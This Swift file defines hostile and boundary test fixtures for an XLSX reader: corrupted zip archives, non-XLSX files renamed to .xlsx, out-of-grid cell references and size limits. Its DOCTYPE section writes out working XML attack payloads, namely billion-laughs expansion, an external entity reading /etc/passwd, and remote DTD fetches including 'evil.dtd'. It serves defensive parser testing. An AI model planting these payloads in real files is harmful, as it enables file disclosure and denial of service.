/// Items 8, 9, 16 (references off the grid), 30-32 and the SPEC §14 limits: files the reader must
/// refuse cleanly, and the legitimate files next to each limit that it must still read.
extension ConformanceFixtures {
    static let hostileFixtures: [ConformanceFixture] = [
        badCRCDeflated, badCRCStored, badCRCSharedStrings,
        encrypted, legacyXLS, htmlRenamed, htmlExcelExport, csvRenamed, xmlSpreadsheet2003, binaryNotZip, wordRenamed,
        referenceBeyondColumn, referenceBeyondRow, rowNumberBeyondLimit, implicitColumnBeyondXFD,
        implicitRowBeyondLimit,
        doctypeBillionLaughs, doctypeExternalFile, doctypeExternalHTTP, doctypeParameterEntity,
        doctypeInRelationships,
        nesting300, longInlineString, longSharedString, cellTextAtLimit, nestingAt250,
        highlyCompressibleStyles,
        truncatedHalf, truncatedEndRecord, truncatedCentralDirectory, offsetBeyondEnd, offsetIntoData,
        overlappingNestedEntry, overlappingDeclaredSize,
    ]

    private typealias X = XLSXBuilder
    private static let sheetPart = "xl/worksheets/sheet1.xml"

    /// A plain workbook for the container defects: a shared string, a number, a date.
    private static func plainBook(rowCount: Int = 3) -> X {
        let rows = (1...rowCount).map { index in
            row(
                index, shared("A\(index)", index - 1), number("B\(index)", "\(index)"),
                number("C\(index)", "\(45965 + index)", style: 1))
        }.joined()
        return X(
            rows: rows, sharedStrings: X.sharedStrings((1...rowCount).map { "Pekerja \($0)" }),
            styles: generalAndDateStyles)
    }

    private static func corrupted(_ corruptions: [ZipCorruption], rowCount: Int = 3) -> [UInt8] {
        var book = plainBook(rowCount: rowCount)
        book.zip.corruptions = corruptions
        return book.archive()
    }

    // MARK: Item 8: CRC-32

    public static let badCRCDeflated = ConformanceFixture(.hostile, "bad-crc-deflated.xlsx", items: [8]) {
        corrupted([.wrongCRC(entry: sheetPart)])
    }

    public static let badCRCStored = ConformanceFixture(.hostile, "bad-crc-stored.xlsx", items: [8]) {
        var book = plainBook()
        book.storedParts = [sheetPart]
        book.zip.corruptions = [.wrongCRC(entry: sheetPart)]
        return book.archive()
    }

    public static let badCRCSharedStrings = ConformanceFixture(.hostile, "bad-crc-shared-strings.xlsx", items: [8]) {
        corrupted([.wrongCRC(entry: "xl/sharedStrings.xml")])
    }

    // MARK: Item 9: not an XLSX file

    /// A CFB container with the streams of an encrypted OOXML package.
    public static let encrypted = ConformanceFixture(.hostile, "encrypted.xlsx", items: [9]) {
        var info: [UInt8] = [0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00]
        info += Array(
            ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
                + "<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\">"
                + "<keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\""
                + " cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\"/></encryption>").utf8)
        var package: [UInt8] = []
        package.appendLittleEndian(UInt64(4096))
        var state: UInt32 = 0x5349_4741  // "SIGA": a fixed seed for the stand-in cipher text
        for _ in 0..<4096 {
            state = state &* 1_664_525 &+ 1_013_904_223
            package.append(UInt8(truncatingIfNeeded: state >> 24))
        }
        return CompoundFile.make(streams: [("EncryptionInfo", info), ("EncryptedPackage", package)])
    }

    /// A CFB container with a BIFF8 `Workbook` stream, as Excel 97-2003 writes.
    public static let legacyXLS = ConformanceFixture(.hostile, "legacy-xls.xlsx", items: [9]) {
        // BOF record: type 0x0809, 16 bytes, BIFF8, workbook globals, build 0x0DBB, year 1996.
        let bof: [UInt8] = [
            0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00, 0xBB, 0x0D, 0xCC, 0x07,
            0x00, 0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x00,
        ]
        let eof: [UInt8] = [0x0A, 0x00, 0x00, 0x00]
        return CompoundFile.make(streams: [("Workbook", bof + eof)])
    }

    public static let htmlRenamed = ConformanceFixture(.hostile, "html-renamed.xlsx", items: [9]) {
        Array(
            ("<!DOCTYPE html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"><title>Data Pekerja</title></head>"
                + "<body><table><tr><th>NIK</th><th>NAMA</th></tr>"
                + "<tr><td>3275014101900001</td><td>SITI</td></tr></table></body></html>\n").utf8)
    }

    /// What "Save as Web Page" or a web application's "Export to Excel" produces: BOM, then `<html xmlns...>`.
    public static let htmlExcelExport = ConformanceFixture(.hostile, "html-excel-export.xlsx", items: [9]) {
        [0xEF, 0xBB, 0xBF]
            + Array(
                ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\""
                    + " xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n"
                    + "<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\r\n"
                    + "<body><table><tr><td>NIK</td><td>NAMA</td></tr></table></body></html>\r\n").utf8)
    }

    public static let csvRenamed = ConformanceFixture(.hostile, "csv-renamed.xlsx", items: [9]) {
        Array(
            "NIK,NAMA,TANGGAL LAHIR\n3275014101900001,SITI AMINAH,01/01/1990\n3275015505850002,BUDI,15/05/1985\n"
                .utf8)
    }

    public static let xmlSpreadsheet2003 = ConformanceFixture(.hostile, "xml-spreadsheet-2003.xlsx", items: [9]) {
        Array(
            ("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n"
                + "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\""
                + " xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\n"
                + " <Worksheet ss:Name=\"Sheet1\"><Table><Row><Cell><Data ss:Type=\"String\">NIK</Data></Cell></Row>"
                + "</Table></Worksheet>\n</Workbook>\n").utf8)
    }

    /// Binary that is neither a zip nor text: a PNG header and a little noise.
    public static let binaryNotZip = ConformanceFixture(.hostile, "binary-not-zip.xlsx", items: [9]) {
        [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52]
            + (0..<240).map { UInt8(truncatingIfNeeded: $0 &* 151 &+ 7) }
    }

    /// A Word document renamed `.xlsx`: a valid package whose main part is a document, not a
    /// workbook (an agency that typed its list in Word).
    public static let wordRenamed = ConformanceFixture(.hostile, "word-renamed.xlsx", items: [9]) {
        var writer = ZipWriter()
        writer.add(
            "[Content_Types].xml",
            text: "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/word/document.xml\" "
                + "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
        writer.add(
            "_rels/.rels",
            text: "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" "
                + "Target=\"word/document.xml\"/></Relationships>")
        writer.add(
            "word/document.xml",
            text: "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
                + "<w:p><w:r><w:t>DAFTAR PEKERJA DISHUB: NIK 3275014101900001 SITI</w:t></w:r></w:p></w:body></w:document>")
        return writer.archive()
    }

    // MARK: Item 16: references off the grid

    private static func sheetWith(_ rows: String) -> [UInt8] { X(rows: rows).archive() }

    public static let referenceBeyondColumn = ConformanceFixture(.hostile, "ref-beyond-column.xlsx", items: [16]) {
        sheetWith(row(1, number("A1", "1"), number("XFE1", "2")))
    }

    public static let referenceBeyondRow = ConformanceFixture(.hostile, "ref-beyond-row.xlsx", items: [16]) {
        sheetWith(row(1, number("A1", "1")) + row(1_048_577, number("A1048577", "2")))
    }

    public static let rowNumberBeyondLimit = ConformanceFixture(.hostile, "row-number-beyond-limit.xlsx", items: [16]) {
        sheetWith(row(1, number("A1", "1")) + "<row r=\"1048577\"><c><v>2</v></c></row>")
    }

    public static let implicitColumnBeyondXFD = ConformanceFixture(
        .hostile, "implicit-column-beyond-xfd.xlsx", items: [16]
    ) {
        sheetWith("<row r=\"1\"><c r=\"XFD1\"><v>1</v></c><c><v>2</v></c></row>")
    }

    public static let implicitRowBeyondLimit = ConformanceFixture(
        .hostile, "implicit-row-beyond-limit.xlsx", items: [16]
    ) {
        sheetWith(row(1_048_576, number("A1048576", "1")) + "<row><c><v>2</v></c></row>")
    }

    // MARK: Item 30: DOCTYPE

    public static let doctypeBillionLaughs = ConformanceFixture(.hostile, "doctype-billion-laughs.xlsx", items: [30]) {
        var entities = "<!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            entities +=
                "<!ENTITY lol\(level) \""
                + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        var book = X(rows: "")
        book.overrides = [
            (
                sheetPart,
                "<?xml version=\"1.0\"?>\n<!DOCTYPE worksheet [\n\(entities)]>\n"
                    + "<worksheet xmlns=\"\(X.mainNamespace)\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\">"
                    + "<is><t>&lol9;</t></is></c></row></sheetData></worksheet>"
            )
        ]
        return book.archive()
    }

    public static let doctypeExternalFile = ConformanceFixture(.hostile, "doctype-external-file.xlsx", items: [30]) {
        X(
            rows: row(1, shared("A1", 0)),
            sharedStrings: "<?xml version=\"1.0\"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                + "<sst xmlns=\"\(X.mainNamespace)\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>"
        ).archive()
    }

    /// The address is in TEST-NET-1 (RFC 5737): a reader that tries to fetch it hangs, never succeeds.
    public static let doctypeExternalHTTP = ConformanceFixture(.hostile, "doctype-external-http.xlsx", items: [30]) {
        var book = X(rows: row(1, number("A1", "1")))
        book.overrides = [
            (
                "xl/workbook.xml",
                "<?xml version=\"1.0\"?>\n"
                    + "<!DOCTYPE workbook SYSTEM \"http://192.0.2.1/workbook.dtd\">\n"
                    + "<workbook xmlns=\"\(X.mainNamespace)\" xmlns:r=\"\(X.relationshipsNamespace)\">"
                    + "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
            )
        ]
        return book.archive()
    }

    public static let doctypeParameterEntity = ConformanceFixture(
        .hostile, "doctype-parameter-entity.xlsx", items: [30]
    ) {
        X(
            rows: row(1, number("A1", "45966", style: 1)),
            styles: "<?xml version=\"1.0\"?>\n<!DOCTYPE styleSheet [\n"
                + "<!ENTITY % remote SYSTEM \"http://192.0.2.1/evil.dtd\">\n%remote;\n]>\n"
                + "<styleSheet xmlns=\"\(X.mainNamespace)\"><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/>"
                + "</cellXfs></styleSheet>"
        ).archive()
    }

    public static let doctypeInRelationships = ConformanceFixture(
        .hostile, "doctype-in-relationships.xlsx", items: [30]
    ) {
        var book = X(rows: row(1, number("A1", "1")))
        book.overrides = [
            (
                "_rels/.rels",
                "<?xml version=\"1.0\"?>\n"
                    + "<!DOCTYPE Relationships [<!ENTITY target \"xl/workbook.xml\">]>\n"
                    + "<Relationships xmlns=\"\(X.packageRelationshipsNamespace)\"><Relationship Id=\"rId1\""
                    + " Type=\"\(X.officeRelationshipType("officeDocument"))\" Target=\"&target;\"/></Relationships>"
            )
        ]
        return book.archive()
    }

    // MARK: SPEC §14 limits: nesting and cell text length

    /// `depth` nested foreign elements inside the worksheet's extLst, after the data.
    private static func nested(depth: Int) -> [UInt8] {
        // worksheet, extLst and ext are three levels; the rest are <d:n>.
        let inner = depth - 3
        return X(sheets: [
            X.Sheet(
                name: "Sheet1",
                xml: X.worksheet(
                    row(1, number("A1", "1")),
                    after: "<extLst><ext uri=\"urn:example:deep\" xmlns:d=\"urn:example:deep\">"
                        + String(repeating: "<d:n>", count: inner) + String(repeating: "</d:n>", count: inner)
                        + "</ext></extLst>"))
        ]).archive()
    }

    public static let nesting300 = ConformanceFixture(.hostile, "nesting-300.xlsx", items: [33]) {
        nested(depth: 300)
    }

    public static let nestingAt250 = ConformanceFixture(.xlsx, "33-nesting-250.xlsx", items: [33]) {
        nested(depth: 250)
    }

    public static let longInlineString = ConformanceFixture(.hostile, "long-inline-string.xlsx", items: [33]) {
        sheetWith(row(1, inline("A1", String(repeating: "x", count: 32_768))))
    }

    public static let longSharedString = ConformanceFixture(.hostile, "long-shared-string.xlsx", items: [33]) {
        X(rows: row(1, shared("A1", 0)), sharedStrings: X.sharedStrings([String(repeating: "y", count: 32_768)]))
            .archive()
    }

    /// Exactly 32,767 characters: "é" (two UTF-8 bytes) in a shared string, "x" inline.
    public static let cellTextAtLimit = ConformanceFixture(.xlsx, "33-cell-text-at-limit.xlsx", items: [33]) {
        X(
            rows: row(1, shared("A1", 0), inline("B1", String(repeating: "x", count: 32_767))),
            sharedStrings: X.sharedStrings([String(repeating: "é", count: 32_767)])
        ).archive()
    }

    // MARK: Item 31: compressible but legitimate

    /// 40,000 cell formats (about 3.5 MB of XML that deflates more than 100:1); the cell uses the last.
    public static let highlyCompressibleStyles = ConformanceFixture(
        .xlsx, "31-highly-compressible-styles.xlsx", items: [31]
    ) {
        let formats = [Int](repeating: 0, count: 39_999) + [14]
        return X(
            rows: row(1, number("A1", "45966", style: 39_999), number("B1", "45966", style: 39_998)),
            styles: X.styles(cellFormats: formats)
        ).archive()
    }

    // MARK: Item 32: truncated archives, bad offsets, overlapping entries

    public static let truncatedHalf = ConformanceFixture(.hostile, "truncated-half.xlsx", items: [32]) {
        let whole = plainBook(rowCount: 200).archive()
        return corrupted([.truncate(bytes: whole.count / 2)], rowCount: 200)
    }

    public static let truncatedEndRecord = ConformanceFixture(.hostile, "truncated-end-record.xlsx", items: [32]) {
        let whole = plainBook(rowCount: 200).archive()
        return corrupted([.truncate(bytes: whole.count - 10)], rowCount: 200)
    }

    public static let truncatedCentralDirectory = ConformanceFixture(
        .hostile, "truncated-central-directory.xlsx", items: [32]
    ) {
        let whole = plainBook(rowCount: 200).archive()
        // The end record's last fields: central directory size (at -10) and offset (at -6).
        let end = whole.count - 22
        let offset =
            Int(whole[end + 16]) | Int(whole[end + 17]) << 8 | Int(whole[end + 18]) << 16
            | Int(whole[end + 19]) << 24
        return corrupted([.truncate(bytes: offset + 30)], rowCount: 200)
    }

    public static let offsetBeyondEnd = ConformanceFixture(.hostile, "bad-offset-beyond-end.xlsx", items: [32]) {
        corrupted([.localHeaderOffset(entry: sheetPart, offset: 10_000_000)])
    }

    public static let offsetIntoData = ConformanceFixture(.hostile, "bad-offset-into-data.xlsx", items: [32]) {
        corrupted([.shiftedLocalHeaderOffset(entry: sheetPart, bytes: 7)])
    }

    /// The sheet's complete local record sits inside the stored data of another entry.
    public static let overlappingNestedEntry = ConformanceFixture(
        .hostile, "overlapping-nested-entry.xlsx", items: [32]
    ) {
        var book = plainBook()
        book.binaryParts = [("xl/media/image1.png", [])]
        book.zip.corruptions = [.nested(entry: sheetPart, inside: "xl/media/image1.png")]
        return book.archive()
    }

    /// The shared strings' declared compressed size runs 64 bytes into the next entry.
    public static let overlappingDeclaredSize = ConformanceFixture(
        .hostile, "overlapping-declared-size.xlsx", items: [32]
    ) {
        let book = plainBook()
        let strings = book.parts().first { $0.name == "xl/sharedStrings.xml" }!.xml
        let compressedSize = UInt64(Zlib.deflateRaw(Array(strings.utf8)).count)
        return corrupted([.declaredCompressedSize(entry: "xl/sharedStrings.xml", size: compressedSize + 64)])
    }
}
